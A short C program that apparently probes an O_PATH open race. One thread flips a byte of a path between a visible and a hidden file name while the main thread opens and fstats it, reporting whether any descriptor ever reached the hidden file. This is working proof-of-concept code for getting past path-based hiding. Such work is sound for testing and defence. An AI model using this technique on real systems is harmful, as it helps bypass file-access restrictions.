/* The O_PATH open check-then-use race: a thread flips one byte of the path
 * between a visible file and a hidden one of the same name length while
 * the main thread opens it O_PATH and fstats what it got. Prints "won" if
 * any descriptor ever referred to a file of the hidden one's size, else
 * "lost N" with N the opens that succeeded.
 * Usage: opath_race VISIBLE HIDDEN HIDDEN_SIZE TRIES */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char buf[4096] __attribute__((aligned(64)));
static size_t at;
static char good, bad;
static atomic_int stop;

static void *flip(void *arg)
{
	(void)arg;
	volatile char *c = (volatile char *)buf + at;
	while (!atomic_load(&stop)) {
		*c = bad;
		for (volatile int k = 0; k < 50; k++)
			;
		*c = good;
		for (volatile int k = 0; k < 50; k++)
			;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 5 || strlen(argv[1]) != strlen(argv[2]) || strlen(argv[1]) >= sizeof(buf))
		return 2;
	while (argv[1][at] == argv[2][at])
		at++;
	good = argv[1][at];
	bad = argv[2][at];
	off_t hidden_size = atol(argv[3]);
	int tries = atoi(argv[4]), opened = 0;
	strcpy(buf, argv[1]);
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	for (int i = 0; i < tries; i++) {
		int fd = open(buf, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		opened++;
		struct stat st;
		if (fstat(fd, &st) == 0 && st.st_size == hidden_size) {
			printf("won %d\n", i);
			atomic_store(&stop, 1);
			return 0;
		}
		close(fd);
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("lost %d\n", opened);
	return 1;
}
